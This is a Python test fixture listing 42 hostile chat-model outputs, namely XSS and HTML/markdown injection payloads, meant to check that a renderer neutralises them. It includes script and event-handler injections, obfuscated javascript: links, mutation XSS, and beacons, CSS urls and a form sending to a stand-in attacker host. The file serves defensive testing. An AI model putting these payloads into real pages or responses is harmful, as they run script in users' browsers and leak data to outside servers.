"""Model outputs written to attack the page: each would run script, open a dialog or make the browser
call another host if it reached the DOM as markup. Shared by the renderer's unit tests and the browser
test (tests/e2e/test_chat_hostile.py). ``other-host.test`` stands for an attacker's server (.test never
resolves)."""

from __future__ import annotations

EVIL = "other-host.test"

HOSTILE_OUTPUTS: list[tuple[str, str]] = [
    ("script tag", "先說結論。<script>alert('script')</script>"),
    ("img onerror", "<img src=x onerror=alert('img-onerror')>"),
    ("svg onload", "<svg onload=alert('svg-onload')></svg>"),
    ("body onload", "<body onload=alert('body-onload')>hi</body>"),
    ("iframe javascript", "<iframe src=\"javascript:alert('iframe-js')\"></iframe>"),
    ("iframe other host", f'<iframe src="http://{EVIL}/frame"></iframe>'),
    ("markdown javascript link", "[點我看薪資表](javascript:alert('md-js-link'))"),
    ("mixed-case javascript link", "[點我](JaVaScRiPt:alert('md-js-case'))"),
    ("entity-encoded javascript link", "[點我](&#106;avascript:alert('md-js-entity'))"),
    ("tab inside javascript", "[點我](java&#x09;script:alert('md-js-tab'))"),
    ("data: html link", "[點我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("vbscript link", "[點我](vbscript:msgbox('vb'))"),
    ("markdown image beacon", f"![薪資圖](http://{EVIL}/beacon.gif?u=1)"),
    ("protocol-relative image beacon", f"![chart](//{EVIL}/beacon2.gif)"),
    ("reference-style image beacon", f"![圖][b]\n\n[b]: https://{EVIL}/ref-beacon.png"),
    ("raw img beacon", f"<img src=//{EVIL}/beacon>"),
    ("img srcset beacon", f'<img srcset="http://{EVIL}/srcset.png 1x">'),
    ("data: svg image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)"),
    ("raw javascript anchor", "<a href=\"javascript:alert('raw-a')\">x</a>"),
    ("css url in style attribute", f'<div style="background:url(http://{EVIL}/css-attr.png)">x</div>'),
    ("css url in style tag", f"<style>body{{background:url(http://{EVIL}/css-tag.png)}}</style>"),
    ("stylesheet link", f'<link rel="stylesheet" href="http://{EVIL}/x.css">'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/refresh">'),
    ("object", f'<object data="http://{EVIL}/x.swf"></object>'),
    ("embed", f'<embed src="http://{EVIL}/embed">'),
    ("form to other host", f'<form action="http://{EVIL}/steal"><button>送出</button></form>'),
    ("base href", f'<base href="http://{EVIL}/">'),
    (
        "entities spelling a script",
        "&lt;script&gt;alert('entity')&lt;/script&gt; &#60;img src=x onerror=alert(2)&#62;",
    ),
    ("nested script", "<scr<script>ipt>alert('nested')</scr</script>ipt>"),
    ("mutation xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>"),
    ("details ontoggle", "<details open ontoggle=alert('toggle')>x</details>"),
    ("video source onerror", "<video><source onerror=alert('video')></video>"),
    ("audio onerror", "<audio src=x onerror=alert('audio')></audio>"),
    ("input autofocus", "<input autofocus onfocus=alert('focus')>"),
    ("svg use other host", f'<svg><use href="http://{EVIL}/s.svg#x"/></svg>'),
    ("table background", f'<table background="http://{EVIL}/bg.png"><tr><td>x</td></tr></table>'),
    ("autolink javascript", "<javascript:alert('autolink')>"),
    ("attribute breakout", "\"><script>alert('breakout')</script><img src=x onerror=alert(3)>"),
    ("link with event handler", f'<a href="http://{EVIL}/" onmouseover="alert(\'hover\')">hover</a>'),
    ("image in link", f"[![x](http://{EVIL}/in-link.png)](http://{EVIL}/)"),
    ("html in code span", "`<img src=x onerror=alert('code')>`"),
    ("split script across lines", "<scr\nipt>alert('split')</scr\nipt>"),
]
